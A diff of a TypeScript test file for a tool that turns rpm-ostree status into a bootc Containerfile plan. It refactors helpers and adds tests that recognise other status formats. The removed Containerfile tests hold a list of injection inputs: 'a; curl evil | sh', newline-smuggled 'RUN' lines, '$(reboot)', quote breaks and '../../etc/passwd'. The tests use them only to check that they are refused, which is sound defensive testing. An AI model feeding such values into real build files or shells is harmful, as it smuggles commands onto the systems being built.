@@ -1,45 +1,26 @@
-/** The way of a layered host to bootc: what is read of its status, what is planned, and what is never written into a Containerfile. */
+/** The way of a layered host to bootc: what is read of its status, and the base of its image. */
 import { join } from "node:path";
 import { describe, expect, test } from "vitest";
 import { z } from "zod";
-import { UsageError } from "../../harness/base/errors.ts";
 import { packageRoot } from "../../harness/base/package-root.ts";
 import { parseStatus } from "../../harness/cli/commands/migrate-plan-command.ts";
 import { loadYaml } from "../../harness/config/load-yaml.ts";
 import { changeRows, localChanges } from "../../harness/guest/tools/rpm-ostree.ts";
-import { type MigratePlan, planMigration } from "../../harness/migrate/migrate-plan.ts";
 import {
   containerDeployment,
   deploymentOf,
   everyChange,
   statusOf,
 } from "../golden/rpm-ostree-status.ts";
+import { errorOf, planFor, planOf, readStatus } from "./support/migrate-plan.ts";
 
 const catalogueRefs = z.object({
   images: z.record(z.string(), z.object({ reference: z.string().optional() })),
 });
 
-const read = (status: unknown) => parseStatus(JSON.stringify(status), "status.json");
-
-const planOf = (status: unknown): MigratePlan =>
-  planMigration({ status: read(status), slot: "booted", kernelArguments: null });
-
-const planFor = (more: Readonly<Record<string, unknown>>): MigratePlan =>
-  planOf(statusOf(deploymentOf(more)));
-
-const errorOf = (action: () => unknown): UsageError => {
-  try {
-    action();
-  } catch (error) {
-    if (error instanceof UsageError) return error;
-    throw error;
-  }
-  throw new Error("It was not refused.");
-};
-
 describe("the status", () => {
   test("is read with every kind of change, the wish before what is there", () => {
-    const [one] = read(statusOf(deploymentOf(everyChange))).deployments;
+    const [one] = readStatus(statusOf(deploymentOf(everyChange))).deployments;
     expect(one && localChanges(one)).toEqual({
       packages: ["htop", "vim-enhanced", "pkgconfig(zlib)"],
       inactive: ["vim-enhanced"],
@@ -60,7 +41,7 @@ describe("the status", () => {
   });
 
   test("of an old version, which lacks keys and has modules, is read", () => {
-    const [one] = read({
+    const [one] = readStatus({
       deployments: [
         {
           checksum: "c".repeat(64),
@@ -95,9 +76,7 @@ describe("the status", () => {
 
   test.each([
     ["an empty file", "", "it is not JSON"],
-    ["rpm-ostree's text for people", "State: idle\nDeployments:\n", "it is not JSON"],
     ["a list", "[]", "a map of keys"],
-    ["bootc's status", '{"status":{"booted":null}}', "'deployments' is missing"],
     ["no deployment", '{"deployments":[]}', "at least 1 in the list"],
     ["a deployment without a checksum", '{"deployments":[{}]}', "deployments[0].checksum"],
     [
@@ -112,13 +91,31 @@ describe("the status", () => {
     expect(message).toContain("save what `rpm-ostree status --json` prints");
   });
 
+  test.each([
+    ["bootc's, as JSON", '{"apiVersion":"org.containers.bootc/v1","kind":"BootcHost"}', "bootc"],
+    ["bootc's, as YAML", "apiVersion: org.containers.bootc/v1\nkind: BootcHost\n", "bootc"],
+    ["bootc's for people", "● Booted image: quay.io/example/os:1\n", "bootc"],
+    ["bootc's for people, of an update", "  Staged image: quay.io/example/os:1\n", "bootc"],
+    ["rpm-ostree's for people", "State: idle\nDeployments:\n● fedora:…\n", "people"],
+    ["ostree's", "* fedora 0123abcd.0\n    Version: 43\n    origin: <unknown>\n", "ostree"],
+    ["ostree's, as JSON", '{"deployments":[{"checksum":"a","stateroot":"fedora"}]}', "ostree"],
+  ])("that is %s is called by its name", (_, text, whose) => {
+    const { message } = errorOf(() => parseStatus(text, "status.json"));
+    const words = {
+      bootc: /this is bootc's status.*\n.*without rpm-ostree has nothing layered/s,
+      people: /this is what `rpm-ostree status` prints for people.*\n.*--json/s,
+      ostree: /this is the status of `ostree admin`.*\n.*rpm-ostree status --json/s,
+    };
+    expect(message).toMatch(words[whose as keyof typeof words]);
+  });
+
   test("that is hostile in size is refused", () => {
     const many = deploymentOf({ "requested-packages": Array(5001).fill("a") });
-    expect(errorOf(() => read(statusOf(many))).message).toContain("requested-packages");
+    expect(errorOf(() => readStatus(statusOf(many))).message).toContain("requested-packages");
     const long = deploymentOf({ "requested-packages": ["a".repeat(1001)] });
-    expect(errorOf(() => read(statusOf(long))).message).toContain("requested-packages[0]");
+    expect(errorOf(() => readStatus(statusOf(long))).message).toContain("requested-packages[0]");
     const hundred = Array.from({ length: 101 }, () => deploymentOf());
-    expect(errorOf(() => read(statusOf(...hundred))).message).toContain("deployments");
+    expect(errorOf(() => readStatus(statusOf(...hundred))).message).toContain("deployments");
   });
 });
 
@@ -186,109 +183,5 @@ describe("the base", () => {
     const plan = planOf(status);
     expect(plan.base).toBe(base === undefined ? origin.replace("docker://", "") : base);
     expect(plan.steps.join("\n").includes("--enforce-container-sigpolicy")).toBe(isSigned);
-  });
-});
-
-describe("the Containerfile", () => {
-  test("has every kind of change, in an order that works", () => {
-    expect(
-      planFor(everyChange).containerfile,
-    ).toBe(`# Made by bootgate migrate-plan for deployment fedora-${"a".repeat(64)}.0.
-# It is the image of the same system that Fedora's projects publish; look with \`skopeo inspect\` whether it is there and has the label containers.bootc.
-FROM quay.io/fedora-ostree-desktops/silverblue:43
-
-RUN dnf -y --setopt=clean_requirements_on_remove=False remove firefox firefox-langpacks
-
-# Put the RPM files into rpms/replacements/ first:
-# podman-5.5.0-1.fc43.x86_64.rpm
-COPY rpms/replacements/ /tmp/rpms/replacements/
-RUN rpm --upgrade --oldpackage --replacepkgs /tmp/rpms/replacements/*.rpm && rm -rf /tmp/rpms
-
-RUN dnf -y --repo=copr:example distro-sync mesa-libGL-26.1-1.fc43.x86_64
-
-# Put the RPM files into rpms/local/ first:
-# mytool-1.0-1.noarch.rpm
-COPY rpms/local/ /tmp/rpms/local/
-RUN dnf -y install /tmp/rpms/local/*.rpm && rm -rf /tmp/rpms
-
-# Put the RPM files into rpms/over-files/ first:
-# patched-2.0-1.x86_64.rpm
-COPY rpms/over-files/ /tmp/rpms/over-files/
-RUN rpm --upgrade --oldpackage --replacepkgs --replacefiles /tmp/rpms/over-files/*.rpm && rm -rf /tmp/rpms
-
-RUN dnf -y install htop vim-enhanced 'pkgconfig(zlib)' && dnf clean all
-
-COPY etc/vconsole.conf /etc/vconsole.conf
-RUN kver=$(ls /usr/lib/modules) && dracut --force --no-hostonly --reproducible --add ostree --add-drivers 'nvme vfio' --install /etc/vconsole.conf "/usr/lib/modules/$kver/initramfs.img" "$kver"
-
-RUN bootc container lint
-`);
-  });
-
-  const evil = [
-    "a; curl evil | sh",
-    "a\nRUN curl evil",
-    "a\rRUN curl evil",
-    "a$(reboot)",
-    "a`reboot`",
-    "a' && reboot #",
-    'a" && reboot',
-    "a\\",
-    "a<<EOF",
-    "--config=/tmp/x",
-    "",
-    "a b",
-    "../../etc/passwd",
-    "a\u2028b",
-    "a\u0000b",
-    "a\u001b[2J",
-    "x".repeat(400),
-  ];
-  test.each([
-    ["requested-packages", [...evil, "https://example.org/x.rpm", "x.rpm", "//x/y"]],
-    ["requested-local-packages", evil],
-    ["requested-local-fileoverride-packages", evil],
-    ["requested-base-removals", evil],
-    ["requested-base-local-replacements", evil],
-    ["requested-modules", evil],
-    ["requested-modules-enabled", evil],
-    ["initramfs-etc", [...evil, "/etc/../root", "/usr/bin/sh", "/etc/a b"]],
-    [
-      "initramfs-args",
-      ["a\nRUN x", "a<<EOF", "a;b", "$(x)", "`x`", "a\\", "a&b", "a|b", "a>b", ""],
-    ],
-  ])("is not made with what is not plain in %s", (key, words) => {
-    for (const word of words) {
-      const error = errorOf(() => planFor({ [key]: ["htop", word] }));
-      expect(error.message, word).toContain(`The status has something in '${key}'`);
-      expect(error.blame).toBe("caller");
-      expect(error.message).not.toMatch(/[\u0000\u001b\r]/);
-    }
-  });
-
-  test("does not take a replacement without names for one of every package", () => {
-    const { containerfile } = planFor({
-      "base-remote-replacements": { "repo=x": [] },
-      "requested-packages": ["htop"],
-    });
-    expect(containerfile).not.toContain("distro-sync");
-    expect(containerfile).toContain("# What came from 'repo=x' is not named");
-  });
-
-  test("is not made with a hostile replacement from a repository", () => {
-    const make = (replacements: unknown) => planFor({ "base-remote-replacements": replacements });
-    expect(() => make({ "repo=x": ["a; b"] })).toThrow(UsageError);
-    const { containerfile } = make({ "repo=x\nRUN evil": ["mesa"] });
-    expect(containerfile).not.toMatch(/^RUN evil/m);
-    expect(containerfile).toContain("replace them by hand:");
-  });
-
-  test("has no line of its own from an identity or a version", () => {
-    const { containerfile } = planFor({
-      id: "x\nRUN evil",
-      version: "1\nRUN evil",
-      "requested-packages": ["htop"],
-    });
-    expect(containerfile).not.toMatch(/^RUN evil/m);
   });
 });
